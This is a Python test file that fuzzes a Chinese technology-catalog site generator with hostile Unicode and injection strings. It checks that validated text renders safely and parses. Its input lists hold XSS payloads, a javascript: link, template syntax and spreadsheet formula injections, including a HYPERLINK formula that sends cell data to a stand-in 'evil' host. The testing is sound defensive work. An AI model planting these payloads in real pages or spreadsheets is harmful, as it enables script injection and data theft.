"""Principle: whatever `juli validate` accepts, `juli build` builds.

Arbitrary Unicode text goes into every free-text field of every kind a contributor writes (the fields
are read from the schemas, `schemas.text_fields`), written to disk as a double-quoted YAML scalar with
escapes, so control characters, noncharacters and lone surrogates arrive as a hostile contributor can
send them. When validation accepts the catalog, every renderer (pages, calendar, exports, share kits and
covers, feeds, search records, profiles, map, progress, change log) must produce its files without an
exception, and the feeds, JSON and CSV must parse. The HTML build itself is exercised once, on a catalog
of hostile-but-valid text, by the slow test at the end.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from generator import model, schemas
from generator.checks import validate
from generator.render import Context, renderers, search
from validator_kit import CatalogKit

ORG_DIR = "catalog/organizations/test-org"
COMMON = {"schema_version": 1, "published": "2025-01-10", "updated": "2025-02-01",
          "summary": "这是一段用于测试渲染器的条目简介文字。", "description": "正文第一段。\n\n正文第二段。",
          "contact": {"label": "联系人", "address": "北京市海淀区", "phone": "010-62000000"}, "tags": ["测试标签"]}

# One document per kind and resource kind, with every optional free-text field filled in.
DOCUMENTS: dict[str, tuple[str, dict]] = {
    "organization": (f"{ORG_DIR}/organization.yml", {
        "schema_version": 1, "id": "test-org", "name": "测试科技协会", "short_name": "测试协会", "name_en": "Test Association",
        "type": "要素类", "uscc": "51110108MJ0012342G", "registered_by": "北京市海淀区民政局", "supervisor": "北京市科协",
        "founded": "2019-05-20", "fields": ["科技服务业"], "summary": "这是一家用于测试渲染器的虚构科技社会组织。",
        "description": "协会介绍。", "contacts": [{"label": "秘书处", "address": "北京市海淀区", "email": "a@example.org"}],
        "international_memberships": [{"name": "国际组织", "role": "会员"}], "maintainers": ["test-bot"]}),
    "service": (f"{ORG_DIR}/services/ip-consulting.yml", {
        **COMMON, "id": "ip-consulting", "title": "知识产权咨询", "service_kinds": ["知识产权"],
        "capabilities": ["协同推进技术创新"], "fields": ["科技服务业"], "audiences": ["中小企业"], "delivery": ["线上"],
        "fee": "收费", "fee_note": "首次咨询免费", "how_to_apply": "发送邮件预约。"}),
    "standard": (f"{ORG_DIR}/resources/group-standard.yml", {
        **COMMON, "id": "group-standard", "kind": "standard", "title": "科技服务机构服务规范", "number": "T/TEST 1—2024",
        "level": "团体标准", "status": "实施", "drafters": ["测试协会"]}),
    "platform": (f"{ORG_DIR}/resources/platform.yml", {
        **COMMON, "id": "platform", "kind": "platform", "title": "共性技术平台", "platform_type": "共性技术平台",
        "offers": ["检测"], "url": "https://test.example.org/platform"}),
    "patent_pool": (f"{ORG_DIR}/resources/pool.yml", {
        **COMMON, "id": "pool", "kind": "patent_pool", "title": "专利池", "scope": "人工智能", "patents": 12,
        "licensing": "按年许可。"}),
    "event": (f"{ORG_DIR}/resources/forum.yml", {
        **COMMON, "id": "forum", "kind": "event", "title": "科技服务论坛", "format": "培训", "start": "2025-03-10 09:00",
        "end": "2025-03-10 17:00", "place": "北京市海淀区会议中心"}),
    "facility": (f"{ORG_DIR}/resources/lab.yml", {
        **COMMON, "id": "lab", "kind": "facility", "title": "检测实验室", "facility_type": "检测设备", "booking": "电话预约。",
        "location": "北京市海淀区"}),
    "cooperation": (f"{ORG_DIR}/resources/coop.yml", {
        **COMMON, "id": "coop", "kind": "cooperation", "title": "中德合作", "partner": "德国协会", "partner_en": "German Assoc",
        "country": "德国", "signed": "2024-05-01", "scope": "标准互认"}),
    "journal": (f"{ORG_DIR}/resources/journal.yml", {
        **COMMON, "id": "journal", "kind": "journal", "title": "科技期刊", "issn": "1234-5678", "frequency": "月刊",
        "language": "中文"}),
    "case": ("cases/test-org/ip-case.yml", {
        "schema_version": 1, "id": "ip-case", "title": "知识产权咨询帮助企业完成专利布局", "date": "2025-03-01",
        "organizations": ["test-org"], "enterprises": ["某科技公司"], "fields": ["科技服务业"],
        "capabilities": ["协同推进技术创新"], "summary": "协会为 20 家企业提供专利布局咨询服务。",
        "problem": "企业缺少专利布局经验。", "approach": "协会组织专家逐一走访企业。", "effects": "20 家企业新增专利申请。",
        "figures": [{"label": "服务企业", "value": 20, "unit": "家"}],
        "images": [{"file": "photo.png", "alt": "咨询现场", "caption": "专家走访企业"}],
        "body": "案例正文。", "tags": ["专利"], "services": ["ip-consulting"]}),
    "programme": ("catalog/programme.yml", {
        "schema_version": 1,
        "site": {"title": "测试目录", "subtitle": "副标题", "title_en": "Test Catalog", "base_url": "https://test.example.org/",
                 "description": "站点说明。", "host": "测试主办单位", "contact": "test@example.org", "site_code": "TEST",
                 "topic": "测试专题"},
        "targets": {"year": 2025, "organizations": 100}, "key_organizations": ["test-org"],
        "integrity": {"test-org": {"status": "关注", "checked": "2025-01-01", "note": "年检材料逾期未报"}},
        "wording": {"region": "测试市", "programme": "测试行动", "policy": "测试行动方案", "office": "测试办公室",
                    "park": "测试园区", "map_title": "测试图谱", "progress_title": "测试进展", "local_time": "当地时间",
                    "quote": "引文。", "quote_from": "一（一）", "labels": {"parks": "园区"}},
        "editor": {"backend": "gitea", "repo": "office/catalog", "host": "https://git.example.org", "app_id": "a1b2"},
        "print": {"build": False, "policy_sections": ["一、总体要求"]}}),
}
KIND_OF = {"standard": "resource", "platform": "resource", "patent_pool": "resource", "event": "resource",
           "facility": "resource", "cooperation": "resource", "journal": "resource"}
NOT_CONTRIBUTED = {("programme", ("share", "font"))}  # a path on the office's machine, not text


def kind(name: str) -> str:
    return KIND_OF.get(name, name)


def concrete(path: tuple[str, ...], data: dict) -> tuple | None:
    """A schema path ("*" for any item or key) as a path into `data`, if `data` has that place."""
    out: list = []
    node = data
    for part in path:
        if part == "*":
            if isinstance(node, list) and node:
                out.append(0)
                node = node[0]
            elif isinstance(node, dict) and node:
                key = next(iter(node))
                out.append(key)
                node = node[key]
            else:
                return None
        elif isinstance(node, dict) and part in node:
            out.append(part)
            node = node[part]
        else:
            return None
    return tuple(out) if isinstance(node, str) else None


FIELDS = sorted({(name, concrete(f.path, doc)) for name, (_, doc) in DOCUMENTS.items()
                 for f in schemas.text_fields(kind(name)) if concrete(f.path, doc)}, key=repr)


def quoted(text: str) -> str:
    """`text` as a YAML double-quoted scalar: printable characters as they are, everything else escaped."""
    out = []
    for ch in text:
        code = ord(ch)
        if ch in '"\\':
            out.append("\\" + ch)
        elif ch.isprintable() and not 0xD800 <= code <= 0xDFFF and ch not in "\u2028\u2029\x85\ufeff":
            out.append(ch)
        elif code < 0x100:
            out.append(f"\\x{code:02x}")
        elif code < 0x10000:
            out.append(f"\\u{code:04x}")
        else:
            out.append(f"\\U{code:08x}")
    return '"' + "".join(out) + '"'


def scalar(value) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return str(value)
    return quoted(value)


def emit(value, indent: int = 0) -> str:
    """Block-style YAML, every text double-quoted: how the hostile values reach the loader."""
    pad = " " * indent
    out = []
    if isinstance(value, dict):
        for key, v in value.items():
            out.append(f"{pad}{key}:\n{emit(v, indent + 2)}" if isinstance(v, (dict, list)) and v
                       else f"{pad}{key}: {scalar(v)}\n")
    else:
        for v in value:
            out.append(f"{pad}- {emit(v, indent + 2)[indent + 2:]}" if isinstance(v, dict) else f"{pad}- {scalar(v)}\n")
    return "".join(out)


def with_value(data, path: tuple, text: str):
    data = json.loads(json.dumps(data))
    node = data
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = text
    return data


def write_catalog(root: Path, change: tuple[str, tuple, str] | None = None, documents: dict = DOCUMENTS) -> None:
    from PIL import Image

    if not (root / "catalog/taxonomy.yml").exists():
        CatalogKit(root)
        Image.new("RGB", (480, 320), (40, 120, 200)).save(root / "cases/test-org/photo.png")
    for name, (rel, data) in documents.items():
        if change and change[0] == name:
            data = with_value(data, change[1], change[2])
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(emit(data), "utf-8")


def render_everything(root: Path, cache: Path) -> int:
    """Every renderer's output for the catalog at `root`, checked to parse; returns the number of files."""
    catalog = model.build(validate(root))
    ctx = Context(catalog=catalog, root=root, cache=cache)
    count = 0
    for renderer in renderers():
        for output in renderer(ctx):
            count += 1
            if output.path.endswith((".xml", ".rss", ".atom")):
                ET.fromstring(output.data)
            elif output.path.endswith(".json"):
                json.loads(output.data)
            elif output.path.endswith(".csv"):
                list(csv.reader(io.StringIO(output.data.decode("utf-8-sig"))))
            elif output.path.endswith((".md", ".html", ".txt", ".ics")):
                output.data.decode("utf-8")
    search.index_files(search.records(catalog))
    return count


@pytest.fixture(scope="module")
def catalog_root(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("accepts") / "repo"
    root.mkdir()
    write_catalog(root)
    return root


def test_the_base_documents_are_valid_and_fill_every_free_text_field(catalog_root):
    problems = validate(catalog_root).problems
    assert problems == [], [(p.file, p.code, p.message) for p in problems]
    covered = {(kind(name), tuple("*" if isinstance(p, int) else p for p in path)) for name, path in FIELDS}
    for k in ("organization", "service", "resource", "case", "programme"):
        for field in schemas.text_fields(k):
            key = (k, field.path)
            if (k, field.path) in NOT_CONTRIBUTED:
                continue
            # map keys (integrity.<org>.note) are matched by position
            assert key in covered or any(c[0] == k and len(c[1]) == len(field.path) and all(
                f == "*" or f == p for f, p in zip(field.path, c[1])) for c in covered), f"no test value for {k}.{field.path}"


HOSTILE = st.sampled_from([
    "ภาษาไทยการอบรม", "𠀀𠀁𪚥 生僻字", "🚀👨‍👩‍👧 算力券", "مرحبا بالعالم", "e\u0301\u0302 Zalgo\u0336\u0336",
    "<script>alert(1)</script>", "]]><x>", "{{ config }}{% raw %}", "[链接](javascript:alert(1))", "**粗体**_斜体_ `代码`",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"点我\")", "+86 10 6200 0000", "-1", "@SUM(A1)", "＝１＋１",
    "\x01\x08", "\ufffe", "\ud800", "\u202e反转", "零宽\u200b空格", "行一\n行二", "末尾换行\n", "回车\r", "\t制表",
    "&amp; &lt; &#0; &#x1;", "\\ \\\\ \"", "   ", "", "a" * 400, "长" * 20001, "\U0010fffd\ue000私用区",
])
TEXT = st.one_of(HOSTILE, st.text(st.characters(codec=None), max_size=60), st.text(max_size=30),
                 st.builds(lambda a, b: a + b, HOSTILE, st.text(st.characters(codec=None), max_size=10)))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(field=st.sampled_from(FIELDS), text=TEXT)
@example(field=("case", ("summary",)), text="&amp; &lt; &#0; &#x1;")  # once stopped the RSS feed (markup._NOT_XML)
def test_whatever_validate_accepts_every_renderer_renders(catalog_root, tmp_path_factory, field, text):
    name, path = field
    write_catalog(catalog_root, (name, path, text))
    if not validate(catalog_root).ok:
        event("refused by validation")
        return
    event("accepted and rendered")
    assert render_everything(catalog_root, catalog_root.parent / "cache") > 0


def test_each_hostile_class_is_either_refused_or_rendered(catalog_root):
    """The classes the issue names, each decided: refused by validation, or rendered."""
    accepted, refused = set(), set()
    for text in ("ภาษาไทย", "𠀀", "🚀", "\x01", "\x08", "\ufffe", "\uffff", "\ud800", "\u202e", "标题\n", "标题\r"):
        write_catalog(catalog_root, ("service", ("title",), "知识产权" + text))
        if validate(catalog_root).ok:
            render_everything(catalog_root, catalog_root.parent / "cache")
            accepted.add(text)
        else:
            refused.add(text)
    write_catalog(catalog_root)
    assert accepted == {"ภาษาไทย", "𠀀", "🚀"}
    assert refused == {"\x01", "\x08", "\ufffe", "\uffff", "\ud800", "\u202e", "标题\n", "标题\r"}


HOSTILE_BUT_VALID = {
    ("service", ("title",)): "泰语培训 ภาษาไทย 𠀀 🚀",
    ("service", ("description",)): "<script>alert(1)</script>\n\n]]> {{ x }} [点我](https://evil.example/)",
    ("case", ("title",)): "=HYPERLINK(\"https://evil.example/\",\"点我\")",
    ("organization", ("short_name",)): "ภาษา",
    ("event", ("place",)): "مرحبا 会议室 🏢",
}


@pytest.mark.slow
def test_a_catalog_of_hostile_but_valid_text_builds_a_whole_site(tmp_path):
    from validator_kit import ROOT

    root = tmp_path / "repo"
    root.mkdir()
    for name in ("docs", "overrides"):
        if (ROOT / name).is_dir():
            subprocess.run(["cp", "-r", str(ROOT / name), str(root / name)], check=True)
    (root / "mkdocs.yml").write_bytes((ROOT / "mkdocs.yml").read_bytes())
    documents = dict(DOCUMENTS)
    for (name, path), text in HOSTILE_BUT_VALID.items():
        rel, data = documents[name]
        documents[name] = (rel, with_value(data, path, text))
    write_catalog(root, documents=documents)
    validated = subprocess.run([sys.executable, "-m", "generator", "validate", "--root", str(root)],
                               capture_output=True, text=True)
    assert validated.returncode == 0, validated.stdout
    built = subprocess.run([sys.executable, "-m", "generator", "build", "--root", str(root)], capture_output=True, text=True)
    assert built.returncode == 0, built.stdout + built.stderr
    assert "Traceback" not in built.stderr
    rows = list(csv.DictReader(io.StringIO((root / "site/cases.csv").read_text("utf-8-sig"))))
    assert rows[0]["title"] == "'" + HOSTILE_BUT_VALID[("case", ("title",))]
